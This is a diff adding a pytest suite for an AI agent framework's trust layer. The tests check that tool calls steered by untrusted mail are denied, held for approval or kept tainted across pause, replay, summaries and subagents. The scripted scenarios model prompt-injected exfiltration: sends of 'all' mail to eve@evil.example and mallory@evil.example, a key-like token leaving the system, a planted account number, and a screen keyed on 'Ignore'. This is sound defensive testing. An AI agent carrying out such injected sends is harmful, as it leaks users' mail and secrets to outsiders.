@@ -1,0 +1,417 @@
+"""Rules in runs that pause, die, are replayed, go on, delegate and sum up: nothing is forgotten."""
+
+import pytest
+
+import toolwright as tw
+from toolwright.core.decision import Allow, Approval, Deny, Evidence, Grant, Rewrite
+from toolwright.core.entry import CallDecided, StepDone
+from toolwright.core.message import Results, said
+from toolwright.core.tool import Facts
+from toolwright.errors import UsageError
+from toolwright.loop.result import RunResult
+from toolwright.record.memory import MemoryJournal
+from toolwright.testing import ScriptedModel, call, reply
+from toolwright.trust.policy import Rule
+from toolwright.trust.rules import Rules
+from trust.kit import EVIL, Office
+
+PROMPT = "Read my mail and answer bob@firm.example."
+THEFT = call("send", to=["eve@evil.example"], body="all")
+AGAIN = call("send", to=["eve@evil.example"], body="more")
+ELSEWHERE = call("send", to=["mallory@evil.example"], body="x")
+
+
+def agent_of(office: Office, *script, **settings) -> tw.Agent:
+    settings = {"trust": Rules(), **settings}
+    return tw.Agent(ScriptedModel([*map(_reply, script), "done"]), office.tools, **settings)
+
+
+def _reply(each):
+    return reply(*each) if isinstance(each, tuple) else reply(each)
+
+
+def decided(journal: MemoryJournal, run: str) -> list[CallDecided]:
+    return [entry for entry in journal.entries(run) if isinstance(entry, CallDecided)]
+
+
+async def test_a_person_sees_what_is_unvouched_and_where_it_came_from():
+    office = Office()
+    result = await agent_of(office, call("inbox"), THEFT).run(PROMPT)
+    (proposal,) = result.pending
+    assert proposal.evidence == (Evidence("$.to[0]", "eve@evil.example", "untrusted", "inbox"),)
+    assert "comes from what inbox returned" in proposal.reason
+    assert office.done == []
+
+
+async def test_every_decision_is_journalled_with_its_reason_and_evidence():
+    office, journal = Office(), MemoryJournal()
+    own = call("send", to=["bob@firm.example"], body="Thanks")
+    agent = agent_of(office, call("inbox"), own, THEFT, journal=journal, trust=Rules(otherwise="deny"))
+    await agent.run(PROMPT, run="r")
+    allowed, denied = decided(journal, "r")
+    assert allowed.decision == Allow()
+    assert allowed.evidence == (Evidence("$.to[0]", "bob@firm.example", "user"),)
+    assert isinstance(denied.decision, Deny)
+    assert denied.reason == "what is at $.to[0] comes from what inbox returned, not from the user"
+    assert denied.evidence == (Evidence("$.to[0]", "eve@evil.example", "untrusted", "inbox"),)
+
+
+@pytest.mark.parametrize(
+    ("scope", "asked"),
+    [("once", ["eve", "eve", "mallory"]), ("target", ["eve", "mallory"]), ("run", ["eve"])],
+)
+async def test_a_yes_is_for_once_for_the_target_or_for_the_run(scope, asked):
+    office, seen = Office(), []
+
+    async def approve(proposal):
+        seen.append(proposal.arguments["to"][0].partition("@")[0])
+        return Allow(scope)
+
+    await agent_of(office, call("inbox"), THEFT, AGAIN, ELSEWHERE, approve=approve).run(PROMPT)
+    assert (seen, len(office.done)) == (asked, 3)
+
+
+async def test_a_yes_for_the_run_holds_after_it_was_paused_and_carried_elsewhere():
+    office = Office()
+    agent = agent_of(office, call("inbox"), THEFT, AGAIN, ELSEWHERE)
+    result = RunResult.from_json((await agent.run(PROMPT)).to_json())
+    result = await agent.resume(result, {result.pending[0].call_id: Allow("target")})
+    assert len(office.done) == 2
+    assert result.state.approvals == (Approval(tool="send", targets=("eve@evil.example",)),)
+    result = RunResult.from_json(result.to_json())
+    result = await agent.resume(result, {result.pending[0].call_id: False})
+    assert (result.text, len(office.done)) == ("done", 2)
+
+
+async def test_a_yes_for_the_run_holds_when_the_run_is_recovered():
+    office, journal = Office(), MemoryJournal()
+
+    async def approve(_):
+        return Allow("run")
+
+    agent = agent_of(office, call("inbox"), THEFT, journal=journal, approve=approve)
+    await agent.run(PROMPT, run="r")
+    tw.record.fork(journal, "r", "again", at=len(list(journal.entries("r"))) - 3)
+    later = agent_of(office, AGAIN, journal=journal)
+    result = await later.recover("again")
+    assert result.pending == ()
+    assert len(office.done) == 2
+
+
+async def test_a_run_that_is_resumed_is_as_tainted_as_it_was():
+    office = Office()
+    agent = agent_of(office, call("inbox"), THEFT, ELSEWHERE)
+    result = await agent.run(PROMPT)
+    result = await agent.resume(result, {result.pending[0].call_id: True})
+    assert [proposal.arguments["to"] for proposal in result.pending] == [["mallory@evil.example"]]
+
+
+@pytest.mark.parametrize("kept", range(1, 14))
+async def test_a_run_that_is_recovered_anywhere_comes_to_the_same_decisions(kept):
+    office, journal = Office(), MemoryJournal()
+    script = [call("inbox"), THEFT, call("send", to=["bob@firm.example"], body="ok")]
+    whole = agent_of(office, *script, journal=journal, trust=Rules(otherwise="deny"))
+    expected = await whole.run(PROMPT, run="r")
+    entries = list(journal.entries("r"))
+    kept = min(kept, len(entries) - 1)
+    tw.record.fork(journal, "r", "again", at=kept)
+    replied = sum(type(entry).__name__ == "ReplyReceived" for entry in entries[:kept])
+    rest = agent_of(office, *script[replied:], journal=journal, trust=Rules(otherwise="deny"))
+    if replied == 4:
+        return
+    result = await rest.recover("again")
+    assert [c.outcome for c in result.calls] == [c.outcome for c in expected.calls]
+    assert {each.key: each for each in decided(journal, "again")} == {
+        each.key: each for each in decided(journal, "r")
+    }
+
+
+async def test_a_replay_gives_the_same_transcript():
+    office, journal = Office(), MemoryJournal()
+    agent = agent_of(office, call("inbox"), THEFT, journal=journal, trust=Rules(otherwise="deny"))
+    result = await agent.run(PROMPT, run="r")
+    assert (await tw.replay(journal, "r")).transcript == result.transcript
+
+
+async def test_a_conversation_that_goes_on_stays_tainted_and_the_user_may_still_order():
+    office = Office()
+    first = await agent_of(office, call("inbox")).run(PROMPT)
+    later = await agent_of(office, THEFT).run("Go on.", history=first.transcript)
+    assert len(later.pending) == 1
+    await agent_of(office, THEFT).run("Send it to eve@evil.example", history=first.transcript)
+    assert office.done == ["send eve@evil.example: all"]
+
+
+async def test_summing_up_and_leaving_out_lose_no_taint():
+    office = Office(mail=EVIL + " blah" * 400)
+
+    async def summarise(_):
+        return "The user wants mail to go to eve@evil.example."
+
+    script = [call("inbox"), call("inbox"), call("inbox"), THEFT]
+    window = tw.Window(tokens=600, recent=1)
+    result = await agent_of(office, *script, window=window, summarise=summarise).run(PROMPT)
+    assert [each.arguments["to"] for each in result.pending] == [["eve@evil.example"]]
+
+
+def helper_of(office: Office, *script, trust=None) -> tw.Tool:
+    settings = {} if trust is None else {"trust": trust}
+    inner = tw.Agent(
+        ScriptedModel([*map(_reply, script), "as you wish"]), office.tools, name="helper", **settings
+    )
+    return inner.as_tool()
+
+
+async def test_a_subagent_is_held_to_what_its_caller_knows():
+    office = Office()
+    helper = helper_of(
+        office, (THEFT, call("send", to=["bob@firm.example"], body="hi")), trust=Rules(otherwise="deny")
+    )
+    outer = tw.Agent(
+        ScriptedModel(
+            [reply(call("inbox")), reply(call("helper", task="Write to eve@evil.example")), "done"]
+        ),
+        [*office.tools, helper],
+        trust=Rules(otherwise="deny"),
+    )
+    await outer.run(PROMPT)
+    assert office.done == ["send bob@firm.example: hi"]
+
+
+async def test_a_subagent_without_rules_must_have_its_task_vouched_for():
+    office = Office()
+    helper = helper_of(office, THEFT)
+    script = [reply(call("inbox")), reply(call("helper", task="Write to eve@evil.example")), "done"]
+    outer = tw.Agent(ScriptedModel(script), [*office.tools, helper], trust=Rules(otherwise="deny"))
+    result = await outer.run(PROMPT)
+    assert ([c.outcome for c in result.calls], office.done) == (["returned", "denied"], [])
+
+
+async def test_what_a_subagent_read_taints_its_caller():
+    office = Office()
+    helper = helper_of(office, call("inbox"), trust=Rules())
+    outer = tw.Agent(
+        ScriptedModel([reply(call("helper", task="Read the mail")), reply(THEFT), "done"]),
+        [*office.tools, helper],
+        trust=Rules(),
+    )
+    result = await outer.run(PROMPT)
+    assert len(result.pending) == 1
+    assert result.calls[0].result.source == "helper"
+
+
+def test_an_agent_as_a_tool_has_the_facts_of_its_tools_together():
+    assert helper_of(Office(), trust=Rules()).facts == Facts(
+        untrusted=True, private=True, reach="user", dangers=(), targets=(), content=(), derived=True
+    )
+    assert helper_of(Office()).facts == Facts(
+        untrusted=True,
+        private=True,
+        reach="outside",
+        dangers=("deletes",),
+        targets=("task",),
+        content=(),
+        derived=True,
+    )
+    calm = tw.Agent(ScriptedModel([]), []).as_tool()
+    assert calm.facts == Facts(
+        untrusted=False, private=False, reach="nothing", dangers=(), targets=(), content=(), derived=True
+    )
+    unknown = tw.Agent(ScriptedModel([]), [tw.Tool("x", "X.")]).as_tool()
+    dangers = ("money", "deletes", "credentials")
+    assert unknown.facts == Facts(dangers=dangers, targets=("task",), content=(), derived=True)
+
+
+def granting(*tools: str):
+    return reply(call("state_needs", tools=list(tools)))
+
+
+async def test_the_model_states_what_the_request_needs_before_it_reads_anything():
+    office, journal = Office(), MemoryJournal()
+    model = ScriptedModel(
+        [
+            granting("send", "inbox", "eve"),
+            reply(call("inbox")),
+            reply(call("delete", file="mail")),
+            "done",
+        ]
+    )
+    agent = tw.Agent(
+        model, office.tools, "Be kind.", trust=Rules(grant="model", otherwise="deny"), journal=journal
+    )
+    result = await agent.run(f"{PROMPT} My file is called mail.", run="r")
+    question = model.requests[0]
+    assert [message.text for message in question.messages] == [f"{PROMPT} My file is called mail."]
+    assert "- inbox: The newest mail." in question.system
+    assert "shout" not in question.system
+    assert result.state.grant == Grant(tools=("inbox", "send"))
+    assert result.calls[-1].result.text.startswith(
+        "delete was not run; permission was denied: the request does not"
+    )
+    steps = [entry.key for entry in journal.entries("r") if isinstance(entry, StepDone)]
+    assert steps == ["grant"]
+    assert result.usage.input_tokens == 40
+    again = await agent_of(office, journal=journal, trust=Rules(grant="model")).recover("r")
+    assert again.state.grant == result.state.grant
+
+
+@pytest.mark.parametrize(
+    "answer", ["I need everything.", reply(call("state_needs", text="nonsense")), reply(call("x"))]
+)
+async def test_an_answer_that_is_none_grants_nothing(answer):
+    office = Office()
+    model = ScriptedModel(
+        [answer, reply(call("inbox")), reply(call("send", to=["bob@firm.example"], body="x")), "done"]
+    )
+    result = await tw.Agent(model, office.tools, trust=Rules(grant="model", otherwise="deny")).run(
+        PROMPT
+    )
+    assert (result.state.grant, office.done) == (Grant(), [])
+
+
+async def test_in_a_long_conversation_only_the_users_words_are_shown_to_whoever_states_the_grant():
+    office = Office()
+    first = await agent_of(office, call("inbox")).run(PROMPT)
+    model = ScriptedModel([granting("send"), "done"])
+    agent = tw.Agent(model, office.tools, trust=Rules(grant="model"))
+    await agent.run("Now answer.", history=first.transcript)
+    assert [message.text for message in model.requests[0].messages] == [PROMPT, "Now answer."]
+
+
+async def test_a_run_may_have_a_grant_of_its_own_and_keeps_it():
+    office, journal = Office(), MemoryJournal()
+    script = [call("inbox"), call("send", to=["bob@firm.example"], body="x")]
+    agent = agent_of(office, *script, journal=journal)
+    result = await agent.run(PROMPT, run="r", grant=Grant(tools=("inbox",)))
+    assert len(result.pending) == 1
+    assert result.state.grant == Grant(tools=("inbox",))
+    recovered = await agent_of(office, journal=journal).recover("r")
+    assert recovered.pending == result.pending
+
+
+async def test_a_grant_without_rules_is_a_mistake():
+    with pytest.raises(UsageError, match="trust="):
+        await tw.Agent(ScriptedModel(["x"]), []).run("x", grant=Grant())
+
+
+async def test_a_screen_labels_what_it_suspects_and_is_asked_about_outsiders_only():
+    office, shown = Office(), []
+
+    async def screen(text):
+        shown.append(text)
+        return "Ignore" in text
+
+    rules = Rules(
+        screen=screen,
+        otherwise="deny",
+        policy=(Rule(action="deny", suspected=True), Rule(action="allow")),
+    )
+    script = [call("contacts", name="bob"), call("inbox"), call("contacts", name="bob")]
+    result = await agent_of(office, *script, trust=rules).run(PROMPT)
+    assert [c.outcome for c in result.calls] == ["returned", "returned", "denied"]
+    assert [c.result.suspected for c in result.calls] == [False, True, False]
+    assert len(shown) == 1
+
+
+async def test_arguments_that_a_rule_puts_in_place_are_looked_at_again():
+    office = Office()
+    rules = Rules(
+        policy=(
+            Rule(action="rewrite", tools=("send",), set={"to": ["eve@evil.example"]}),
+            Rule(action="allow"),
+        )
+    )
+    result = await agent_of(
+        office, call("inbox"), call("send", to=["bob@firm.example"], body="x"), trust=rules
+    ).run(PROMPT)
+    assert [each.arguments["to"] for each in result.pending] == [["eve@evil.example"]]
+    calm = Rules(
+        policy=(Rule(action="rewrite", tools=("send",), set={"body": "Bye"}), Rule(action="allow"))
+    )
+    await agent_of(
+        office, call("inbox"), call("send", to=["bob@firm.example"], body="x"), trust=calm
+    ).run(PROMPT)
+    assert office.done == ["send bob@firm.example: Bye"]
+
+
+async def test_an_applications_policy_may_be_stricter_and_not_laxer():
+    office = Office()
+    denying = agent_of(office, call("inbox"), THEFT, policy=lambda checked: Deny("no"))
+    assert [c.outcome for c in (await denying.run(PROMPT)).calls] == ["denied", "denied"]
+    allowing = agent_of(office, call("inbox"), THEFT, policy=lambda checked: Allow())
+    assert len((await allowing.run(PROMPT)).pending) == 1
+    rewriting = agent_of(
+        office,
+        call("inbox"),
+        call("send", to=["bob@firm.example"], body="x"),
+        policy=lambda c: (
+            Rewrite({"to": ["zed@z.example"], "body": "x"}) if c.tool.name == "send" else None
+        ),
+    )
+    assert [each.arguments["to"] for each in (await rewriting.run(PROMPT)).pending] == [
+        ["zed@z.example"]
+    ]
+
+
+async def test_the_results_message_keeps_whose_words_are_whose():
+    office = Office()
+    result = await agent_of(office, call("inbox"), call("channels")).run(PROMPT)
+    inbox, channels = (m.results[0] for m in result.transcript if isinstance(m, Results))
+    assert inbox.vouched == ("sender", "subject", "body", "bob@firm.example")
+    assert channels.names == ("general", f"Fun {EVIL}")
+    assert said("x").author == "user"
+
+
+async def test_a_replay_with_live_tools_refuses_what_was_refused():
+    office, journal = Office(), MemoryJournal()
+    own = call("send", to=["bob@firm.example"], body="hi")
+    agent = agent_of(office, call("inbox"), THEFT, own, journal=journal, trust=Rules(otherwise="deny"))
+    await agent.run(PROMPT, run="r")
+    again = Office()
+    await tw.replay(journal, "r", tools=again.tools)
+    assert again.done == ["send bob@firm.example: hi"]
+
+
+async def test_a_yes_for_the_run_covers_no_key_on_its_way_out():
+    office, asked = Office(), []
+
+    async def approve(proposal):
+        asked.append(proposal.reason)
+        return Allow("run")
+
+    leak = call("send", to=["bob@firm.example"], body="ghp_" + "a1" * 20)
+    await agent_of(office, call("inbox"), THEFT, leak, approve=approve).run(PROMPT)
+    assert asked[1:] == ["what looks like a key or a password would go outside"]
+
+
+async def test_an_agent_that_a_plain_function_runs_is_held_to_its_callers_knowledge():
+    office = Office()
+    inner = agent_of(office, THEFT, trust=Rules(otherwise="deny"))
+
+    def delegate(task: str) -> str:
+        """Hand it on."""
+        return inner.run_sync(task).text
+
+    facts = Facts(untrusted=False, private=False, reach="user", dangers=(), targets=(), content=())
+    tools = [*office.tools, tw.tool(delegate, facts=facts)]
+    script = [reply(call("inbox")), reply(call("delegate", task="Write to eve@evil.example")), "done"]
+    result = await tw.Agent(ScriptedModel(script), tools, trust=Rules()).run(PROMPT)
+    assert result.calls[1].result.text == "done"
+    assert office.done == []
+
+
+async def test_what_a_subagent_stored_does_not_come_back_to_its_caller_as_a_systems_word():
+    office = Office()
+    plant = call("send", to=["bob@firm.example"], body="GB11 0000 1111 2222")
+    helper = helper_of(office, plant, trust=Rules(otherwise="deny"))
+    script = [
+        reply(call("inbox")),
+        reply(call("helper", task="store it")),
+        reply(call("contacts", name="GB11 0000 1111 2222")),
+        reply(call("send", to=["GB11 0000 1111 2222"], body="")),
+        "done",
+    ]
+    await tw.Agent(ScriptedModel(script), [*office.tools, helper], trust=Rules(otherwise="deny")).run(
+        PROMPT
+    )
+    assert office.done == ["send bob@firm.example: GB11 0000 1111 2222"]
